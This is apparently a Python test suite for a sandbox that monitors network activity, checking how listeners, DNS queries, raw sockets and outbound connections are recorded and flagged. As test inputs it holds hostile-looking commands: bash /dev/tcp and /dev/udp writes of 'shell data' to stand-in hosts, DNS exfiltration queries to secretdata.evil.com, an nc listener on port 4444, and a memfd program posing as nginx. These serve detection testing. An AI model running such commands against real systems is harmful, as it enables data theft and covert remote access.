"""Nothing that an action sends, or tries to, is missing in the report: to name servers, by sockets that no hook judges, by many connections to one address."""

from __future__ import annotations

import os
import socket
import subprocess
import unittest

import harness
from harness import Result
from test_network import OUTSIDE, NetworkCase


class EvidenceCase(NetworkCase):
    def rules(self, result: Result) -> set[str]:
        return {finding["rule"] for finding in result.doc["verdict"]["findings"]}

    def text(self, result: Result) -> str:
        return self.call("show", result.doc["id"], json_out=False).out.decode()


class Listeners(EvidenceCase):
    """Where an action waits to be reached."""

    def test_where_it_waits_and_who_could_come(self) -> None:
        result = self.python("""
import threading
kept = []
def at(family, kind, address, listens=True):
    s = socket.socket(family, kind)
    if address: s.bind(address)
    if listens: s.listen()
    kept.append(s)
at(socket.AF_INET, socket.SOCK_STREAM, ('0.0.0.0', 8081))
at(socket.AF_INET6, socket.SOCK_STREAM, ('::1', 8082))
at(socket.AF_INET, socket.SOCK_STREAM, None)
at(socket.AF_INET6, socket.SOCK_DGRAM, ('::', 8083), False)
at(socket.AF_INET, socket.SOCK_DGRAM, ('0.0.0.0', 0), False)  # a client's
at(socket.AF_INET, socket.SOCK_STREAM, ('0.0.0.0', 8084), False)  # bound, and never listens
try: at(socket.AF_INET, socket.SOCK_STREAM, ('0.0.0.0', 8081))
except OSError as e: assert e.errno == errno.EADDRINUSE
""")
        found = {(one["proto"], one["address"], 0 if one["any_port"] else one["port"], one["outside"]) for one in result.doc["listeners"]}
        self.assertEqual(found, {("tcp", "0.0.0.0", 8081, True), ("tcp", "::1", 8082, False), ("tcp", "0.0.0.0", 0, True), ("udp", "::", 8083, True)})
        self.assertIn("listens                 tcp 0.0.0.0, a port of the kernel's choice  [1]", self.text(result))
        self.assertEqual({(one["process"], one["count"]) for one in result.doc["listeners"]}, {(1, 1)})
        self.assertIn("net.listens", self.rules(result))
        self.assertIn("listens                 tcp 0.0.0.0:8081  [1]", self.text(result))
        self.assertIn("listens  this host      tcp [::1]:8082  [1]", self.text(result))

    def test_for_this_host_alone_is_nothing_to_decide(self) -> None:
        result = self.python("s = socket.socket(); s.bind(('127.0.0.1', 8081)); s.listen(); time.sleep(0.01)")
        self.assertEqual(len(result.doc["listeners"]), 1)
        self.assertFalse({"net.listens", "net.shell-listens"} & self.rules(result))
        self.assertEqual(result.doc["verdict"]["level"], "green")

    def test_what_cannot_be_bound_on_the_host_is_said(self) -> None:
        with socket.socket(socket.AF_INET6) as taken:
            taken.bind(("::1", 0))
            taken.listen()
            port = taken.getsockname()[1]
            result = self.python(f"""
s = socket.socket(socket.AF_INET6); s.bind(('::1', {port})); s.listen()
t = socket.socket(); t.bind(('192.0.2.1', 8081)); t.listen()
""")
        gaps = "\n".join(gap["what"] for gap in result.doc["fidelity"]["gaps"])
        self.assertIn(f"ports that are taken on this host: tcp [::1]:{port} by python3", gaps)
        self.assertIn("listening where no interface of this host is: tcp 192.0.2.1:8081", gaps)
        self.assertIn(f"tcp [::1]:{port}  [1]\n      has it on this host: python3", self.text(result))
        self.assertEqual(result.code, harness.YELLOW)

    def test_a_descriptor_that_becomes_another_meanwhile_hides_nothing(self) -> None:
        """Two threads: one has descriptor 200 listen, the other makes a harmless socket of it."""
        result = self.run_in([os.environ["CALLS"], "listen-flip", "400"])
        self.assertEqual(result.doc["command"]["exit"], 0)
        really = {int(word) for word in (self.state / "runs" / result.doc["id"] / "output" / "stdout").read_text().split()}
        self.assertTrue(really)
        self.assertEqual({one["port"] for one in result.doc["listeners"]}, really | {9})

    def test_a_port_by_another_way(self) -> None:
        """IP_LOCAL_PORT_RANGE says which port a bind that names none gets."""
        result = self.python("""
for kind, port in ((socket.SOCK_DGRAM, 40000), (socket.SOCK_STREAM, 40001), (socket.SOCK_STREAM, 40002)):
    s = socket.socket(socket.AF_INET, kind)
    try: s.setsockopt(socket.IPPROTO_IP, 51, (port << 16 | port).to_bytes(4, sys.byteorder))
    except OSError: print('none'); break
    s.bind(('0.0.0.0', 0))
    if kind == socket.SOCK_STREAM: s.listen()
""")
        if (self.state / "runs" / result.doc["id"] / "output" / "stdout").read_text():
            self.skipTest("this kernel has no IP_LOCAL_PORT_RANGE")
        self.assertEqual({(one["proto"], one["port"], one["any_port"]) for one in result.doc["listeners"]},
                         {("udp", 40000, False), ("tcp", 40001, False), ("tcp", 40002, False)})

    def test_sockets_that_hear_what_is_for_others(self) -> None:
        for socket_words in ("socket.AF_PACKET, socket.SOCK_RAW, 0x0300", "socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP", "socket.AF_PACKET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK, 0"):
            result = self.python(f"socket.socket({socket_words})")
            self.assertEqual([attempt["what"] for attempt in result.doc["attempts"]], ["packets"])
            self.assertIn("priv.attempt", self.rules(result))

    def test_a_program_in_memory_that_is_to_be_reached(self) -> None:
        result = self.python("""
import os
fd = os.memfd_create('nginx')
os.write(fd, open('/usr/bin/python3', 'rb').read())
os.execve(fd, ['nginx', '-c', "import socket; s = socket.socket(); s.bind(('0.0.0.0', 8081)); s.listen()"], {})
""")
        self.assertIn("net.shell-listens", self.rules(result))

    def test_a_shell_to_be_reached_is_red(self) -> None:
        harness.need("nc")
        result = self.run_in(["timeout", "0.3", "nc", "-l", "-p", "4444"])
        self.assertIn("net.shell-listens", self.rules(result))
        self.assertEqual(result.code, 11)


class NameServers(EvidenceCase):
    """Port 53 is answered, and no way to say something else unseen."""

    def test_what_is_no_question_is_a_denied_attempt(self) -> None:
        result = self.run_in(["bash", "-c", """
exec 3<>/dev/tcp/6.6.6.6/53; echo 'shell data' >&3; cat <&3; exec 3>&-
exec 3<>/dev/tcp/6.6.6.5/53; exec 3>&-
echo secretsecret > /dev/udp/6.6.6.7/53; echo more > /dev/udp/6.6.6.7/53
exit 0
"""])
        self.assertEqual(result.doc["dns"], [])
        for proto, dst, ended in (("tcp", "6.6.6.6", "11 bytes that are no question"), ("tcp", "6.6.6.5", "no name server was asked"), ("udp", "6.6.6.7", "13 bytes in 1 datagrams that are no question")):
            found = self.attempts(result, proto=proto, dst=dst, port=53, probe=False)
            self.assertTrue(found, (dst, result.doc["network"]))
            self.assertEqual({(to["verdict"], to["process"], to["rule"]) for to in found}, {("denied", 1, None)}, found)
            self.assertTrue(any(to["ended"].startswith(ended) for to in found), found)
        self.assertLessEqual({"net.outside", "net.shell-connects"}, self.rules(result))

    def test_questions_are_not_counted_with_what_is_none(self) -> None:
        self.assertEqual(self.the_attempt(self.python("""
import struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
for number in range(300):
    if number % 50 == 0: s.sendto(b'no question', ('8.8.8.8', 53))
    s.sendto(struct.pack('!6H', number, 0x100, 1, 0, 0, 0) + b'\\1a\\7example\\3com\\0' + struct.pack('!2H', 1, 1), ('8.8.8.8', 53)); s.recv(1000)
"""), port=53, dst="8.8.8.8")["count"], 6)

    def test_questions_that_do_not_reach_the_gate_are_attempts(self) -> None:
        harness.need("dig", "unshare", "tc")
        result = self.run_in(["sh", "-c", """
unshare -n sh -c 'ip link set lo up; dig +tries=1 +timeout=1 @6.6.6.6 secretdata.evil.com'
unshare -n sh -c 'ip link set lo up; dig +tcp +tries=1 +timeout=1 @6.6.6.7 secretdata.evil.com'
tc qdisc del dev lo clsact
dig +tries=1 +timeout=1 @6.6.6.8 secretdata.evil.com
exit 0
"""])
        for dst in ("6.6.6.6", "6.6.6.7", "6.6.6.8"):
            found = self.attempts(result, dst=dst, port=53, probe=False)
            self.assertTrue(found, (dst, result.doc["network"]))
            self.assertEqual({(to["verdict"], to["ended"]) for to in found}, {("denied", "nothing of it reached the gate")}, found)

    def test_who_asked_whom_and_when(self) -> None:
        harness.need("dig")
        result = self.run_in(["sh", "-c", "dig +short @6.6.6.6 data.example.com > /dev/null; sleep 0.2; dig +short +tcp @6.6.6.7 data.example.com > /dev/null; getent hosts other.example.com"])
        asked = {(one["name"], one["type"]): one for one in result.doc["dns"]}
        one = asked["data.example.com", "A"]
        self.assertEqual((one["servers"], one["count"]), (["6.6.6.6", "6.6.6.7"], 2))
        digs = {process["id"] for process in result.doc["processes"] if process["exe"].endswith("/dig")}
        self.assertEqual(set(one["processes"]), digs)
        self.assertEqual(len(digs), 2)
        other = next(entry for (name, _), entry in asked.items() if name == "other.example.com")
        self.assertEqual(len(other["processes"]), 1)
        self.assertGreater(other["time_s"], one["time_s"] + 0.2)
        self.assertEqual(self.attempts(result, port=53, probe=False), [])
        types = self.run_in(["sh", "-c", "dig @6.6.6.6 data.example.com A > /dev/null; sleep 0.3; dig @6.6.6.6 data.example.com MX > /dev/null"]).doc["dns"]
        times = {one["type"]: one["time_s"] for one in types}
        self.assertGreater(times["MX"], times["A"] + 0.3)
        self.assertIn("looked up data.example.com A: synthetic ×2 at 6.6.6.6 and 1 more", self.text(result))

    def test_an_escaped_name_is_escaped_once(self) -> None:
        result = self.python("""
import struct
name = b'\\x1b[31m'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name + b'\\7example\\3com\\0' + struct.pack('!2H', 1, 1), ('9.9.9.9', 53)); s.recv(1000)
""")
        self.assertIn("looked up \\027[31m.example.com A", self.text(result))


class NoHook(EvidenceCase):
    """Sockets whose sending no hook of the gate judges."""

    def test_udp_lite_is_not_there(self) -> None:
        result = self.python("""
for family in (socket.AF_INET, socket.AF_INET6):
    try: socket.socket(family, socket.SOCK_DGRAM, 136)
    except OSError as error: assert error.errno == errno.EPROTONOSUPPORT, error
    else: assert False
""")
        found = self.attempts(result, proto="other", errno="EPROTONOSUPPORT")
        self.assertEqual({(to["verdict"], "IPPROTO_UDPLITE" in to["dst"]) for to in found}, {("denied", True)}, found)
        self.assertEqual(sum(to["count"] for to in found), 2)
        self.assertIn("net.outside", self.rules(result))

    def test_frames_are_attempts(self) -> None:
        result = self.python("""
import os
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
s.bind(('lo', 0x800))
frame = b'\\0' * 12 + b'\\x08\\0' + b'E' + b'x' * 60
s.send(frame)
if os.fork() == 0:
    os.write(os.dup(s.fileno()), frame)
    os._exit(0)
assert os.wait()[1] == 0
""")
        found = self.attempts(result, dst="AF_PACKET")
        self.assertEqual(sorted((to["verdict"], to["proto"], to["process"], to["count"]) for to in found), [("denied", "other", 1, 1), ("denied", "other", 2, 1)])
        self.assertIn("net.outside", self.rules(result))

    def test_a_raw_socket_is_one_whoever_has_it(self) -> None:
        result = self.python("""
import os
echo = b'\\x08' + b'\\0' * 7
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
socket.socket(fileno=os.dup(s.fileno())).sendto(echo, ('192.0.2.101', 0))
if os.fork() == 0:
    s.sendto(echo, ('192.0.2.102', 0))
    os._exit(0)
assert os.wait()[1] == 0
a, b = socket.socketpair()
socket.send_fds(a, [b'x'], [s.fileno()])
got = socket.socket(fileno=socket.recv_fds(b, 10, 1)[1][0])
got.sendto(echo, ('192.0.2.103', 0))
got.sendmsg([echo], [], 0, ('192.0.2.104', 0))
s.connect(('192.0.2.105', 0))
got.send(echo)
os.write(s.fileno(), echo)
udp = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 17)
udp.sendto(echo, ('2001:db8::7', 0))
""")
        found: dict[str, int] = {}
        for to in self.attempts(result, verdict="denied"):
            found[to["dst"]] = found.get(to["dst"], 0) + to["count"]
        self.assertEqual(found, {"192.0.2.101": 1, "192.0.2.102": 1, "192.0.2.103": 1, "192.0.2.104": 1, "192.0.2.105": 3, "2001:db8::7": 1})


class Looks(EvidenceCase):
    """What a library does to see which address is nearest is told from what a program sends."""

    def test_getaddrinfo_alone_reaches_for_nothing(self) -> None:
        result = self.python("""
socket.getaddrinfo(None, 80, type=socket.SOCK_STREAM, flags=socket.AI_PASSIVE)
socket.getaddrinfo('web.example.com', 443)
""")
        self.assertEqual([to for to in self.attempts(result, probe=False) if to["proto"] != "unix"], [])
        self.assertEqual(result.doc["counts"]["denied"], 0)
        self.assertNotIn("net.local-service", self.rules(result))

    def test_a_program_that_tries_one_address_after_the_other_does_reach(self) -> None:
        result = self.python("""
for address in ('203.0.113.1', '203.0.113.2'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    assert s.connect_ex((address, 514)) == errno.ECONNREFUSED
""")
        self.assertEqual(len(self.attempts(result, port=514, probe=False)), 2)

    def test_what_is_sent_and_dropped_is_no_look(self) -> None:
        result = self.python("""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('192.0.2.1', 443))
for _ in range(5): s.send(b'quic' * 300)
t = socket.socket(); t.settimeout(0.5)
t.connect_ex(('192.0.2.1', 443))
""", "--deny", "udp:*:443=drop")
        self.assertEqual({to["proto"] for to in self.attempts(result, probe=False)}, {"udp", "tcp"})

    def test_ping_is_icmp(self) -> None:
        harness.need("ping")
        result = self.run_in(["ping", "-c", "1", "-W", "1", "ping.example.com"])
        to = self.the_attempt(result, name="ping.example.com", probe=False)
        self.assertEqual((to["proto"], to["port"], to["verdict"]), ("icmp", 0, "denied"))


class OwnAddresses(EvidenceCase):
    def test_a_server_inside_is_reached_at_the_addresses_of_this_host(self) -> None:
        """As it would be outside. Where nothing listens, the kernel says so; where only the host does, nobody is reached."""
        out = subprocess.run(["ip", "-o", "addr", "show", "scope", "global"], capture_output=True, check=False, text=True).stdout
        own = [word.split("/")[0] for line in out.splitlines() for kind, word in zip(line.split(), line.split()[1:]) if kind in ("inet", "inet6")]
        if not own:
            self.skipTest("this host has no address but those of loopback")
        for address in own:
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            with self.subTest(address=address), socket.socket(family) as taken:
                taken.bind((address, 0))
                taken.listen()
                port = taken.getsockname()[1]
                result = self.python(f"""
family, any = socket.{family.name}, {'::' if ':' in address else '0.0.0.0'!r}
server = socket.socket(family); server.bind((any, 8099)); server.listen()
client = socket.create_connection(({address!r}, 8099), 5); client.sendall(b'x')
assert server.accept()[0].recv(1) == b'x'
receiver = socket.socket(family, socket.SOCK_DGRAM); receiver.bind((any, 8099)); receiver.settimeout(5)
socket.socket(family, socket.SOCK_DGRAM).sendto(b'y', ({address!r}, 8099))
assert receiver.recv(1) == b'y'
for port in (8098, {port}):
    assert socket.socket(family).connect_ex(({address!r}, port)) == errno.ECONNREFUSED
""")
                met = {to["port"]: (to["verdict"], to["reached"] is not None) for to in self.attempts(result, dst=address, probe=False)}
                self.assertEqual(met, {8098: ("absent", False), port: ("denied", True)})
                self.assertEqual([f["rule"] for f in result.doc["verdict"]["findings"] if f["rule"].startswith("net.") and f["rule"] != "net.listens"], ["net.local-service"])


    def test_binding_an_address_says_whether_this_host_has_it(self) -> None:
        """Who asks so whether he is the one that has the address is answered yes by every IPv4 address inside."""
        result = self.python("""
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    s = socket.socket(socket.AF_INET, kind); s.bind(('203.0.113.7', 0))
socket.socket().bind(('127.0.0.1', 0)); socket.socket().bind(('', 0))
""")
        gaps = {gap["what"]: gap["cap"] for gap in result.doc["fidelity"]["gaps"] if "bound to an address" in gap["what"]}
        self.assertEqual(gaps, {"bound to an address that no interface of this host has: 203.0.113.7": "yellow"})


class Apart(EvidenceCase):
    def test_connections_to_one_address_are_told_apart(self) -> None:
        mock = self.base / "mock.toml"
        mock.write_text(f'[[mock]]\nlisten = "tcp:{OUTSIDE}:80"\nhttp = [ {{ }} ]\n', encoding="ascii")
        result = self.python(f"""
def get(host, path):
    s = socket.create_connection(('{OUTSIDE}', 80))
    s.sendall(f'GET {{path}} HTTP/1.1\\r\\nHost: {{host}}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
    while s.recv(1000): pass
for host, path in (('one.x', '/first'), ('two.x', '/second'), ('two.x', '/second'), ('three.x', '/third')): get(host, path)
""", "--mock", str(mock))
        found = self.attempts(result, dst=OUTSIDE, port=80)
        self.assertEqual([(to["http_host"], to["http_path"], to["count"], to["verdict"]) for to in found],
                         [("one.x", "/first", 1, "mocked"), ("two.x", "/second", 2, "mocked"), ("three.x", "/third", 1, "mocked")])
        self.assertEqual(result.doc["counts"]["mocked"], 4)
        outside = next(finding for finding in result.doc["verdict"]["findings"] if finding["rule"] == "net.outside")
        self.assertEqual(len(outside["evidence"]), 1)
        text = self.text(result)
        self.assertEqual(text.count(f"tcp {OUTSIDE}:80 ×4"), 1, text)
        for detail in ("HTTP one.x/first", "HTTP two.x/second", "HTTP three.x/third"):
            self.assertIn(detail, text)

    def test_two_names_with_one_address(self) -> None:
        mock = self.base / "mock.toml"
        mock.write_text(f'[[mock]]\ndns = [ {{ name = "one.example.com", type = "A", data = "{OUTSIDE}" }}, {{ name = "two.example.com", type = "A", data = "{OUTSIDE}" }} ]\n', encoding="ascii")
        result = self.python("""
socket.gethostbyname('one.example.com')
assert socket.socket().connect_ex(('two.example.com', 80)) == errno.ECONNREFUSED
""", "--mock", str(mock))
        self.assertEqual(self.the_attempt(result, proto="tcp")["name"], "two.example.com")

    def test_certificates_that_were_added_are_no_mask(self) -> None:
        mock = self.base / "mock.toml"
        mock.write_text('[[mock]]\nlisten = "tcp:tls.example.com:443"\ntls = true\nhttp = [ { } ]\n', encoding="ascii")
        result = self.run_in(["cat", "/etc/ssl/certs/ca-certificates.crt"], "--mock", str(mock))
        self.assertEqual([gap for gap in result.doc["fidelity"]["gaps"] if gap["what"].startswith("read though shown empty")], [])


class Reached(EvidenceCase):
    def test_by_address_and_family(self) -> None:
        four = socket.create_server(("127.0.0.1", 0))
        self.addCleanup(four.close)
        six = socket.socket(socket.AF_INET6)
        self.addCleanup(six.close)
        six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        six.bind(("::1", 0))
        six.listen()
        port4, port6 = four.getsockname()[1], six.getsockname()[1]
        result = self.python(f"""
for family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
    for port in ({port4}, {port6}):
        assert socket.socket(family).connect_ex((address, port)) == errno.ECONNREFUSED
""")
        found = {(to["dst"], to["port"]): (to["verdict"], bool(to["reached"])) for to in result.doc["network"]}
        self.assertEqual(found, {("127.0.0.1", port4): ("denied", True), ("127.0.0.1", port6): ("absent", False),
                                 ("::1", port4): ("absent", False), ("::1", port6): ("denied", True)})

    def test_an_address_of_the_host(self) -> None:
        harness.need("ip")
        words = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True, check=True).stdout.split()
        if not words:
            harness.skip("the host has no address but loopback's")
        address = words[words.index("inet") + 1].split("/")[0]
        listener = socket.create_server((address, 0))
        self.addCleanup(listener.close)
        port = listener.getsockname()[1]
        result = self.python(f"assert socket.socket().connect_ex(('{address}', {port})) == errno.ECONNREFUSED")
        self.assertIn(f"pid {os.getpid()}", self.the_attempt(result, port=port)["reached"])


if __name__ == "__main__":
    unittest.main(verbosity=2)
